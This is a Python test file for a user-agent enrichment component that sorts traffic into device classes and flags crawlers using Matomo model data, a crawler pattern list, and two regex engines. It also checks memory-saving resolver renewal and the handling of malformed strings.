    assert index.scan("Seobility") == (0, None)
    assert index.scan("Seobility2") == (-1, None)  # a name must end at a terminator
    # A bot name is a word: a carrier named "OrangeBotswana" is not the OrangeBot crawler.
    assert index.scan("Mozilla/5.0 (iPhone) [FBAN/FBIOS;FBCR/OrangeBotswana]") == (-1, None)
    # Positions are those of the string given, also where lower-casing would lengthen it.
    dotted = "Mozilla/5.0 (Linux; Android 9; İstanbul) OrangeBot/1.0"
    assert index.scan(dotted) == (dotted.index("OrangeBot"), None)
    both = "Dalvik/2.1.0 (Linux; Android 7.0; SM-T819Y) orangebot"
    assert index.scan(both) == (both.index("orangebot"), "tablet")


def test_literals_are_found_anywhere_with_their_case_in_the_same_pass():
    """The crawler list's plain-text patterns ride in the model index's pass: anywhere in the
    string (no word start needed), exact case, the last one's start reported; a literal whose
    folded text is also a model or bot name keeps both meanings."""
    index = ModelIndex([*INDEX_DATA, ("n", "seobility", "bot")])
    index.load(["Googlebot/", "googlebot/", "Seobility", "SM-T819", "Mail.RU_Bot"])
    assert index.literals == {"Googlebot/", "googlebot/", "Seobility", "SM-T819", "Mail.RU_Bot"}
    ua = "Mozilla/5.0 (compatible; XGooglebot/2.1)"
    assert index.scan_all(ua) == (-1, None, ua.index("Googlebot/"))  # inside a word too
    assert index.scan_all("GOOGLEBOT/2.1")[2] == -1  # exact case only
    assert index.scan_all("googlebot/2.1 Googlebot/")[2] == len("googlebot/2.1 ")  # the last
    assert index.scan_all("Seobility") == (0, None, 0)  # a bot name and a literal
    assert index.scan_all("seobility") == (0, None, -1)
    tablet = "Dalvik/2.1.0 (Linux; Android 7.0; SM-T819Y)"  # a model prefix and a literal
    assert index.scan_all(tablet) == (-1, "tablet", tablet.index("SM-T819"))
    assert index.scan(tablet) == (-1, "tablet")
    dotted = "İİ Mail.RU_Bot"  # positions are the string's, not its lower-cased copy's
    assert index.scan_all(dotted)[2] == dotted.index("Mail.RU_Bot")


def test_the_crawler_list_text_patterns_leave_the_regex_set():
    from squall.enrichment.device_class import DeviceClassifier, literal_text

    assert literal_text(r"Mediapartners \(Googlebot\)") == "Mediapartners (Googlebot)"
    assert literal_text(r"yandex\.com\/bots") == "yandex.com/bots"
    assert literal_text("Ahrefs(Bot|SiteAudit)") is None
    assert literal_text("^curl") is None
    assert literal_text(r"BlogTraffic\/\d") is None
    classifier = DeviceClassifier()
    classifier.load()
    assert 1_400 < len(classifier.models.literals) < classifier.crawler_patterns
    android = "Mozilla/5.0 (Linux; Android 10; {}) AppleWebKit/537.36 Mobile Safari/537.36{}"
    # Outside an Android string's platform part a crawler pattern counts; inside it, it is
    # taken for a model or build name (as the regex set's match did).
    assert (
        classifier.classify(
            android.format("SM-G960F", " Mediapartners-Google"),
            "Chrome Mobile",
            "Android",
            "Samsung SM-G960F",
            "Samsung",
            "SM-G960F",
        )
        == "bot"
    )
    assert (
        classifier.classify(
            android.format("Mediapartners-Google", ""),
            "Chrome Mobile",
            "Android",
            "Generic",
            None,
            None,
        )
        != "bot"
    )
    assert classifier.is_bot_string("Mozilla/5.0 (compatible; Mediapartners-Google)")


def test_an_index_built_before_the_classifier_keeps_every_pattern_in_the_set():
    from squall.enrichment.device_class import DeviceClassifier

    index = ModelIndex(INDEX_DATA)
    index.load()  # without the crawler list's literals
    classifier = DeviceClassifier(index)
    classifier.load()
    assert index.literals == frozenset()
    assert classifier.is_bot_string("Mozilla/5.0 (compatible; Mediapartners-Google)")
    assert (
        classifier.classify(
            "Mozilla/5.0 (compatible; Mediapartners-Google)", "Other", "Other", "Other", None, None
        )
        == "bot"
    )


@pytest.mark.parametrize(
    "ua",
    [
        "CSSCheck/1.2.2",
        "Seobility",
        "Shodan-Pull/1.0",
        "PunkMap (https://github.com/openeasm/punkmap)",
        "Mozilla/5.0 (Mixnode) AppleWebKit/537.36 (KHTML, like Gecko)",
    ],
)
def test_bots_named_only_by_matomos_bot_list(bolt, ua):
    [event] = bolt.process(make_batch([{"user_agent": ua}])).streams["default"]
    assert event.value["device"]["device_class"] == "bot"


@pytest.mark.parametrize(
    ("ua", "expected"),
    [
        # ua-parser names the desktop family (not "Firefox Mobile") and no platform: a desktop.
        ("Mozilla/5.0 (masking-agent; rv:49.0) Gecko/20100101 Firefox/49.0", "desktop"),
        ("Firefox/30.0 (de); anonymized by Abelssoft 2028724395", "desktop"),
        # A mobile family without a platform stays what its own words say.
        (
            "Opera/9.80 (J2ME/MIDP; Opera Mini/9.80 (S60; SymbOS; Opera Mobi/23.348; U; en))",
            "mobile",
        ),
        ("SomeApp/1.0", "other"),
    ],
)
def test_a_desktop_browser_family_without_a_platform_is_a_desktop(bolt, ua, expected):
    assert class_of(bolt, ua) == expected


@pytest.mark.parametrize(
    ("ua", "expected"),
    [
        ("Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; ARM; Trident/6.0; Touch)", "tablet"),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; Touch) AppleWebKit/537.36 Edge/18", "tablet"),
        ("Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0; Touch)", "desktop"),  # 7
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/124.0", "desktop"),
        ("Mozilla/5.0 (Windows NT 10.0; TouchPoint/1.0) Chrome/124.0", "desktop"),  # not the token
    ],
)
def test_windows_8_or_later_with_the_touch_token_is_a_tablet(bolt, ua, expected):
    assert class_of(bolt, ua) == expected


@pytest.mark.parametrize(
    ("ua", "expected"),
    [
        # Honeycomb (Android 3) ran on tablets only, also where the browser says "Mobile".
        (
            "Mozilla/5.0 (Linux; U; Android 3.2; en-us; Unknown 7 Build/HTJ85B) "
            "AppleWebKit/534.13 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.13",
            "tablet",
        ),
        (
            "Mozilla/5.0 (Linux; U; Android 2.3.6; en-us; Unknown 7 Build/GRK39F) "
            "AppleWebKit/533.1 (KHTML, like Gecko) Version/4.0 Mobile Safari/533.1",
            "mobile",
        ),
    ],
)
def test_android_3_is_a_tablet(bolt, ua, expected):
    assert class_of(bolt, ua) == expected


def test_fluid_the_macos_browser_is_not_a_bot(bolt):
    ua = (
        "Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_6_1; nl-nl) AppleWebKit/532.3+ "
        "(KHTML, like Gecko) Fluid/0.9.6 Safari/532.3+"
    )
    crawler = "Mozilla/4.0 (compatible; fluid/0.0; +http://www.leak.info/bot.html)"
    events = bolt.process(make_batch([{"user_agent": ua}, {"user_agent": crawler}]))
    assert [e.value["device"]["device_class"] for e in events.streams["default"]] == [
        "desktop",
        "bot",
    ]


def test_the_bundled_model_data_names_its_source_and_known_models():
    index = ModelIndex()
    index.load()
    assert index.source.startswith("matomo-org/device-detector ")
    assert "regexes/bots.yml" in index.source
    assert index.size > 20_000
    # Samsung Galaxy Tab A, Huawei MediaPad T3 (AGS-L09), Lenovo Yoga Tab 3 Pro: tablets.
    for model in ("SM-T580", "AGS-L09", "Lenovo YT3-X90L"):
        assert index.lookup(f"Dalvik/2.1.0 (Linux; U; Android 7.0; {model} Build/X)") == "tablet"
    assert index.lookup("Dalvik/2.1.0 (Linux; U; Android 7.0; SM-G930F Build/X)") == "mobile"


@pytest.mark.parametrize(
    ("ua", "expected"),
    [
        # Tablets whose browser writes "Mobile": only the model tells.
        (
            "Mozilla/5.0 (Linux; Android 7.0; AGS-L09 Build/HUAWEIAGS-L09) AppleWebKit/537.36 "
            "(KHTML, like Gecko) Chrome/58.0.3029.83 Mobile Safari/537.36",
            "tablet",
        ),
        (
            "Mozilla/5.0 (Linux; U; Android 4.2.2; ru-ru; Lenovo A3500-HV Build/JDQ39) "
            "AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30",
            "tablet",
        ),
        # An OS version is not a model ("Android 4" starts some of Matomo's regexes).
        (
            "Mozilla/5.0 (Linux; Android 4.4.2; Nokia X2 Build/KOT49H) AppleWebKit/537.36 "
            "(KHTML, like Gecko) Chrome/30.0 Mobile Safari/537.36",
            "mobile",
        ),
        # A phone stays a phone.
        (
            "Mozilla/5.0 (Linux; Android 8.0.0; SM-G930F Build/R16NW) AppleWebKit/537.36 "
            "(KHTML, like Gecko) Chrome/70.0 Mobile Safari/537.36",
            "mobile",
        ),
    ],
)
def test_a_known_model_decides_between_phone_and_tablet(bolt, ua, expected):
    assert class_of(bolt, ua) == expected


def test_model_expansion_of_matomo_regexes():
    expand = _device_models_script().expand
    assert expand("SM-T81[05]") == [("sm-t810", False), ("sm-t815", False)]
    # Matomo's end group makes a name that must end there; an open-ended part makes a prefix.
    assert expand("StarXtrem ?([3-4])(?:[);/ ]|$)") == [
        ("starxtrem3", True),
        ("starxtrem4", True),
        ("starxtrem 3", True),
        ("starxtrem 4", True),
    ]
    assert expand(r"SM-T(\d+)") == [("sm-t", False)]
    assert expand(r"\d{2}LEX[-_]")[:2] == [("00lex-", False), ("00lex_", False)]
    assert len(expand(r"\d{2}LEX[-_]")) == 200
    assert expand("(?:OTV-)?SMT-E5015") == [("smt-e5015", False), ("otv-smt-e5015", False)]
    assert expand("(?<!GOG )Galaxy") == [("", False)]  # look-behind: nothing literal before it
    script = _device_models_script()
    # Bot names: only whole literals; an anchored alternative ("^chrome$") is left out.
    assert script.bot_names("Baidu.*spider|baidu Transcoder") == [("baidu transcoder", False)]
    assert script.bot_names("borg|^(?:chrome|firefox)$|Crusader/") == [
        ("borg", False),
        ("crusader/", False),
    ]
    assert not script.usable("android 4")  # an OS version, not a model
    assert not script.usable("lenovo a")  # no digit or hyphen: too generic without the brand
    assert not script.usable("matador")  # ... unless a whole name of 6 characters or more
    assert script.usable("matador", bounded=True)
    assert script.usable("sm-t")


def _device_models_script():
    import importlib.util

    path = Path(__file__).resolve().parents[2] / "scripts" / "device_models.py"
    spec = importlib.util.spec_from_file_location("device_models_script", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_open_names_a_missing_library_without_importing_any(monkeypatch):
    import sys

    from squall.enrichment import device as device_module
    from squall.errors import TopologyError

    monkeypatch.setattr(
        device_module, "_LIBRARIES", (*device_module._LIBRARIES, ("no_such_lib_x", "X is"))
    )
    bolt = DeviceBolt(DeviceBolt.Config(id="dev", type="device"), ComponentContext("t"))
    with pytest.raises(TopologyError, match="X is not installed: no module 'no_such_lib_x'"):
        bolt.open(None)
    assert "no_such_lib_x" not in sys.modules


# Current traffic of the kinds a push-analytics SDK sees (phones of the big makers, in-app
# browsers, tablets, TV sticks, consoles, the main crawlers): the device-model index and
# Matomo's bot names must not move any of them (compared with the rules before them).
MAINSTREAM = [
    (
        "mobile",
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
    ),
    (
        "mobile",
        "Mozilla/5.0 (Linux; Android 14; SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36",
    ),
    (
        "mobile",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
    ),
    (
        "tablet",
        "Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    ),
    (
        "desktop",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    ),
    (
        "desktop",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.51",
    ),
    ("desktop", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0"),
    (
        "desktop",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    ),
    (
        "desktop",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    ),
    (
        "desktop",
        "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    ),
    ("bot", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    (
        "bot",
        "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.118 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    ),
    ("bot", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
    (
        "bot",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
    ),
    (
        "mobile",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/21E219 [FBAN/FBIOS;FBAV/458.0.0.37.104;FBBV/583473044;FBDV/iPhone15,3;FBMD/iPhone;FBSN/iOS;FBSV/17.4;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5;FBRV/585213013]",
    ),
    (
        "mobile",
        "Mozilla/5.0 (Linux; Android 13; SM-A536B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/124.0.6367.82 Mobile Safari/537.36 Instagram 329.0.0.41.93 Android (33/13; 450dpi; 1080x2177; samsung; SM-A536B; a53x; s5e8825; en_US; 590105541)",
    ),
    ("mobile", "Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7 Build/TQ3A.230901.001)"),
    (
        "tablet",
        "Mozilla/5.0 (Linux; Android 13; SM-X200) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    ),
    (
        "tablet",
        "Mozilla/5.0 (Linux; Android 14; Pixel Tablet) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    ),
    (
        "tv",
        "Mozilla/5.0 (Linux; Android 9; AFTKA Build/PS7633.3445N; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/124.0.6367.82 Mobile Safari/537.36",
    ),
    (
        "tv",
        "Mozilla/5.0 (Linux; Android 12.0; Build/STTL.240206.002) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.43 Safari/537.36 CrKey/1.56.500000 DeviceType/AndroidTV",
    ),
    (
        "tv",
        "Mozilla/5.0 (SMART-TV; LINUX; Tizen 7.0) AppleWebKit/537.36 (KHTML, like Gecko) 76.0.3809.146/7.0 TV Safari/537.36",
    ),
    (
        "console",
        "Mozilla/5.0 (PlayStation; PlayStation 5/8.20) AppleWebKit/605.1.15 (KHTML, like Gecko)",
    ),
    (
        "console",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox Series X) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/48.0.2564.82 Safari/537.36 Edge/20.02",
    ),
    (
        "mobile",
        "Mozilla/5.0 (Linux; Android 14; Pixel 8 Pro) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
    ),
    (
        "mobile",
        "Mozilla/5.0 (Linux; Android 13; 2201117TY) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
    ),
    (
        "mobile",
        "Mozilla/5.0 (Linux; Android 12; moto g(60)) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
    ),
    (
        "mobile",
        "Mozilla/5.0 (Linux; Android 13; CPH2437) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
    ),
    (
        "tablet",
        "Mozilla/5.0 (Linux; Android 11; Lenovo TB-J606F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    ),
    ("mobile", "PiStats/3.2.1 (iPhone; iOS 17.2; Scale/3.00)"),
]


@pytest.mark.parametrize(("expected", "ua"), MAINSTREAM)
def test_mainstream_traffic_keeps_its_class(bolt, expected, ua):
    assert class_of(bolt, ua) == expected


def test_a_user_agent_with_a_lone_surrogate_is_parsed_not_raised(bolt):
    """ua-parser's Rust resolver cannot take a lone surrogate (a Python bolt's json.loads of
    "\\ud800"): the call raised UnicodeEncodeError and isolation dead-lettered the event; the
    docs say a malformed user agent is parsed as it is."""
    ua = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) \udc80 Mobile/15E148"
    out = bolt.process(make_batch([{"user_agent": ua}, {"user_agent": "\ud800"}]))
    assert "error" not in out.streams
    phone, junk = (e.value["device"] for e in out.streams["default"])
    assert (phone["device"], phone["device_class"]) == ("iPhone", "mobile")
    assert junk["browser"] == "Other"


def test_the_crawler_list_is_read_without_keeping_its_module():
    """The classifier reads the crawler list's patterns from its JSON file: ``import
    crawleruseragents`` would keep every entry (URL, description, example strings) for the
    process's life. A fresh interpreter, so no other test has imported the module."""
    import subprocess
    import sys

    code = (
        "import sys\n"
        "from squall.enrichment.device_class import BOT, DeviceClassifier, EXCLUDED_PATTERNS\n"
        "c = DeviceClassifier(); c.load()\n"
        "print('crawleruseragents' in sys.modules, c.crawler_patterns,\n"
        "      c.classify('Mozilla/5.0 (compatible; Googlebot/2.1)', 'Other', 'Other', 'Other', None, None),\n"
        "      c.is_bot_string('AhrefsSiteAudit/6.1'))\n"
        "import crawleruseragents\n"
        "print(len([e for e in crawleruseragents.CRAWLER_USER_AGENTS_DATA\n"
        "           if e['pattern'] not in EXCLUDED_PATTERNS]))\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    first, second = done.stdout.splitlines()
    imported, count, googlebot, ahrefs = first.split()
    assert imported == "False"
    assert int(count) == int(second) > 1000  # every pattern of the list, the excluded ones out
    assert (googlebot, ahrefs) == ("bot", "True")


def test_crawler_patterns_without_the_json_file_come_from_the_module(tmp_path, monkeypatch):
    """A crawler-user-agents release (the dependency is ``>=1.67``) whose package holds its list
    elsewhere than ``crawler-user-agents.json`` still gives the patterns, through the module's
    public ``CRAWLER_USER_AGENTS_DATA``: reading the file alone failed the device bolt's load
    with a FileNotFoundError."""
    import sys

    from squall.enrichment.device_class import crawler_patterns

    package = tmp_path / "crawleruseragents"
    package.mkdir()
    (package / "__init__.py").write_text(
        'CRAWLER_USER_AGENTS_DATA = [{"pattern": "FakeBot\\\\/"}, {"pattern": "^other"}]\n'
    )
    monkeypatch.syspath_prepend(str(tmp_path))
    monkeypatch.delitem(sys.modules, "crawleruseragents", raising=False)
    assert crawler_patterns() == ["FakeBot\\/", "^other"]


RENEWAL_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    f"Chrome/{major}.0.0.0 Safari/537.36"
    for major in range(100, 112)
]


def test_the_resolver_is_renewed_after_its_distinct_user_agents_and_the_worn_one_goes(
    monkeypatch,
):
    """ua-parser's regex engines keep matching caches that grow with every new string and never
    shrink (docs/performance.md: ~+38 MB after 50,000 distinct user agents): after
    ``renew_parser_after`` parses a bolt takes a new process resolver, between batches, and
    the worn one is freed once no bolt holds it. Answers do not change."""
    import gc
    import weakref

    from squall.enrichment import device

    monkeypatch.setattr(device, "_shared_resolvers", {})
    config = {"id": "a", "type": "device", "renew_parser_after": 5}
    a = DeviceBolt(DeviceBolt.Config(**config), ComponentContext("test"))
    b = DeviceBolt(DeviceBolt.Config(**{**config, "id": "b"}), ComponentContext("test"))
    a.open(None)
    b.open(None)
    expected = {ua: b.parse(ua) for ua in RENEWAL_UAS}  # b: the first resolver, no renewal
    first = weakref.ref(device.shared_resolver())
    assert a.parse_many(RENEWAL_UAS[:4]) == {ua: expected[ua] for ua in RENEWAL_UAS[:4]}
    assert a._resolver is first()  # 4 parsed: under the limit
    assert a.parse_many(RENEWAL_UAS[4:6]) == {ua: expected[ua] for ua in RENEWAL_UAS[4:6]}
    assert a._resolver is first()  # 6 parsed: a batch is parsed by one resolver
    assert a.parse_many(RENEWAL_UAS[6:]) == {ua: expected[ua] for ua in RENEWAL_UAS[6:]}
    second = device.shared_resolver()
    assert a._resolver is second and second is not first()
    assert b._resolver is first()  # b holds the worn one until its next batch
    b.parse_many(RENEWAL_UAS[:1])  # cached: nothing parsed, but the worn resolver is let go
    assert b._resolver is second
    gc.collect()
    assert first() is None  # nothing holds the worn resolver: its memory is given back
    assert a.parsed == len(RENEWAL_UAS)


def test_renew_parser_after_0_keeps_one_resolver(monkeypatch):
    from squall.enrichment import device

    monkeypatch.setattr(device, "_shared_resolvers", {})
    bolt = DeviceBolt(
        DeviceBolt.Config(id="d", type="device", renew_parser_after=0), ComponentContext("test")
    )
    bolt.open(None)
    bolt.parse_many(RENEWAL_UAS[:1])
    first = bolt._resolver
    for ua in RENEWAL_UAS[1:]:
        bolt.parse_many([ua])
    assert bolt._resolver is first is device.shared_resolver()


# -- engine: re2 (google-re2 in place of ua-parser-rs, for small Lambda functions) --------------


def _sample_user_agents() -> list[str]:
    uas = []
    for name in ("ua_sample.tsv", "ua_sample_browscap.tsv"):
        for line in (Path(__file__).parent / "data" / name).read_text("utf-8").splitlines():
            if line and not line.startswith("#"):
                uas.append(line.split("\t")[1])
    return list(dict.fromkeys(uas))


def test_the_re2_engine_gives_the_same_classes_and_bots_as_the_default():
    """On both samples (6,116 strings) the two engines give every string the same device class
    and bot flag; where their blocks differ at all it is ua-parser's own rules on a bot's string
    (ua-parser-rs names the device ``Spider`` where ua-parser's reference, Python's ``re``, and
    RE2 find no device rule: 27 strings, docs/enrichment.md "The regex engine")."""
    bolts = {}
    for engine in ("auto", "re2"):
        bolts[engine] = DeviceBolt(
            DeviceBolt.Config(id="device", type="device", engine=engine), ComponentContext("t")
        )
        bolts[engine].open(None)
    differ = []
    for ua in _sample_user_agents():
        rust, re2 = bolts["auto"].parse(ua[:512]), bolts["re2"].parse(ua[:512])
        assert (rust["device_class"], rust["is_bot"]) == (re2["device_class"], re2["is_bot"]), ua
        if rust != re2:
            differ.append(ua)
            assert rust["device_class"] == "bot", (ua, rust, re2)
    assert len(differ) <= 40, differ  # (27 today: a new ua-parser release may move a few)
    assert type(bolts["re2"]._resolver).__module__ == "ua_parser.re2"


@pytest.mark.parametrize("engine", ["re2", "auto"])
def test_the_re2_engine_builds_no_ua_parser_rs_rules(engine):
    """What saves the memory: a process whose device bolts use ``engine: re2`` builds none of
    ua-parser-rs's extractors (ua-parser's rules and squall's class rules compiled there take
    ~23 MB; a Lambda zip with ``engine: re2`` does not even hold the module). A fresh
    interpreter, as a Lambda init, whose ua-parser-rs extractors count their builds."""
    import subprocess
    import sys

    code = (
        "import ua_parser_rs\n"
        "built = []\n"
        "for name in ('UserAgentExtractor', 'OSExtractor', 'DeviceExtractor'):\n"
        "    real = getattr(ua_parser_rs, name)\n"
        "    def counted(*a, _real=real, _name=name):\n"
        "        built.append(_name)\n"
        "        return _real(*a)\n"
        "    setattr(ua_parser_rs, name, counted)\n"
        "from squall.component import ComponentContext\n"
        "from squall.enrichment.device import DeviceBolt\n"
        f"b = DeviceBolt(DeviceBolt.Config(id='d', type='device', engine='{engine}'),\n"
        "               ComponentContext('t'))\n"
        "b.open(None)\n"
        "d = b.parse('Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) Mobile/15E148')\n"
        "bot = b.parse('Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)')\n"
        "print(len(built), d['device_class'], bot['is_bot'])\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    count, tablet, bot = done.stdout.split()
    assert (tablet, bot) == ("tablet", "True"), done.stderr
    assert (int(count) == 0) is (engine == "re2"), count  # auto: ua-parser's 3 and the class sets


def test_the_re2_engine_without_google_re2_is_a_located_load_error(monkeypatch):
    import importlib.util

    from squall.errors import TopologyError

    real = importlib.util.find_spec
    monkeypatch.setattr(
        importlib.util, "find_spec", lambda name, *a: None if name == "re2" else real(name, *a)
    )
    bolt = DeviceBolt(
        DeviceBolt.Config(id="device", type="device", engine="re2"), ComponentContext("t")
    )
    with pytest.raises(TopologyError, match=r"engine: re2 needs google-re2.*squall\[re2\]"):
        bolt.open(None)


def test_a_function_with_the_re2_engine_declares_google_re2_not_ua_parser_rs():
    """``squall package`` keeps what the components declare: with ``engine: re2`` the zip holds
    google-re2 and leaves ua-parser-rs out."""
    re2 = DeviceBolt.packages(DeviceBolt.Config(id="d", type="device", engine="re2"))
    auto = DeviceBolt.packages(DeviceBolt.Config(id="d", type="device"))
    assert "re2" in re2 and "ua_parser_rs" not in re2
    assert "ua_parser_rs" in auto and "re2" not in auto


def test_bolts_of_both_engines_in_one_process_renew_and_follow_their_own_resolver(monkeypatch):
    """A process with an ``auto`` and two ``re2`` device bolts: each engine has its resolver,
    shared by its bolts; a renewal replaces its own engine's only, and a bolt follows a renewal
    of its engine's, never the other's (a re2 bolt on ua-parser-rs's resolver has lost what
    ``engine: re2`` saves)."""
    from squall.enrichment import device

    monkeypatch.setattr(device, "_shared_resolvers", {})
    bolts = {
        name: DeviceBolt(
            DeviceBolt.Config(id=name, type="device", engine=engine, renew_parser_after=3),
            ComponentContext("test"),
        )
        for name, engine in (("rs", "auto"), ("re2", "re2"), ("re2b", "re2"))
    }
    for bolt in bolts.values():
        bolt.open(None)
        bolt.warm_up()
    module = {"rs": "ua_parser.regex", "re2": "ua_parser.re2", "re2b": "ua_parser.re2"}
    for i in range(0, len(RENEWAL_UAS), 2):
        for name in ("re2", "rs", "re2b"):  # re2 renews first, then rs, then re2b follows re2
            bolts[name].parse_many(RENEWAL_UAS[i : i + 2])
            assert type(bolts[name]._resolver).__module__ == module[name], (i, name)
        assert bolts["re2"]._resolver is device.shared_resolver("re2")
        assert bolts["rs"]._resolver is device.shared_resolver("auto")
    assert set(device._shared_resolvers) == {"auto", "re2"}
    assert bolts["re2b"]._resolver is bolts["re2"]._resolver is not bolts["rs"]._resolver
